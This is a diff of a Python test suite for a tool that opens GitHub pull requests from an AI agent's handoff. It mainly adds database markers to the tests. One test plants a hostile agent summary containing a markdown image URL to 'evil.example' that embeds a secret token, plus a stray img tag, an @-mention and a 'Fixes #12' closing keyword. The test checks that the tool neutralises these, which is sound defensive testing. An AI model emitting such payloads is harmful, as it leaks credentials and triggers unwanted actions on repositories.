@@ -69,11 +69,13 @@ def test_the_result_is_one_pull_request_with_its_story(world: World, shop: Bare,
     assert found.url == "https://github.example/acme/shop/pull/1"
 
 
+@pytest.mark.any_database
 def test_what_is_only_partly_done_is_offered_too_and_says_so(world: World, github: Scripted):
     assert ended(finalizing(world, "false"))[0] == "partly_succeeded"
     assert "Not every check passed" in github.pulls[0]["body"]
 
 
+@pytest.mark.any_database
 def test_agents_words_call_nobody_close_nothing_and_hold_no_secret(world: World, github: Scripted):
     swarm = finalizing(world)
     Handoff.objects.update(summary=f"Fixes #12, thanks @boss ![x](https://evil.example/{TOKEN}) <img src=x>")
@@ -103,6 +105,7 @@ def test_a_crash_between_the_opening_and_the_record_makes_no_second_one(
     assert row(swarm).pull_request == 1
 
 
+@pytest.mark.any_database
 def test_one_of_the_same_branch_is_brought_up_to_date(world: World, github: Scripted):
     swarm = finalizing(world)
     github.pulls.append(
@@ -112,6 +115,7 @@ def test_one_of_the_same_branch_is_brought_up_to_date(world: World, github: Scri
     assert [one["title"] for one in github.pulls] == ["Make it better."]
 
 
+@pytest.mark.any_database
 def test_one_that_somebody_closed_is_not_opened_again_behind_their_back(world: World, github: Scripted):
     swarm = finalizing(world)
     github.pulls.append(
@@ -121,6 +125,7 @@ def test_one_that_somebody_closed_is_not_opened_again_behind_their_back(world: W
     assert row(swarm).status == "refused"
 
 
+@pytest.mark.any_database
 def test_a_branch_that_somebody_pushed_to_is_not_overwritten(world: World, shop: Bare, github: Scripted):
     swarm = finalizing(world)
     theirs = shop.others_push({"theirs.txt": "x\n"})
@@ -142,6 +147,7 @@ SAYINGS: tuple[Saying, ...] = (
 )
 
 
+@pytest.mark.any_database
 @pytest.mark.parametrize("case", SAYINGS, ids=lambda case: f"{case[0]}-{case[2]}")
 def test_what_github_says_no_to_is_told_and_it_lands_when_it_can(world: World, github: Scripted, case: Saying):
     status, headers, message, found, sentence = case
@@ -167,6 +173,7 @@ def test_without_github_or_a_sign_in_it_is_refused_at_once(world: World, github:
         world.submit()
 
 
+@pytest.mark.any_database
 def test_an_app_is_given_a_token_for_this_repository_alone_and_once(
     world: World, shop: Bare, github: Scripted, monkeypatch: pytest.MonkeyPatch, settings: Settings
 ):
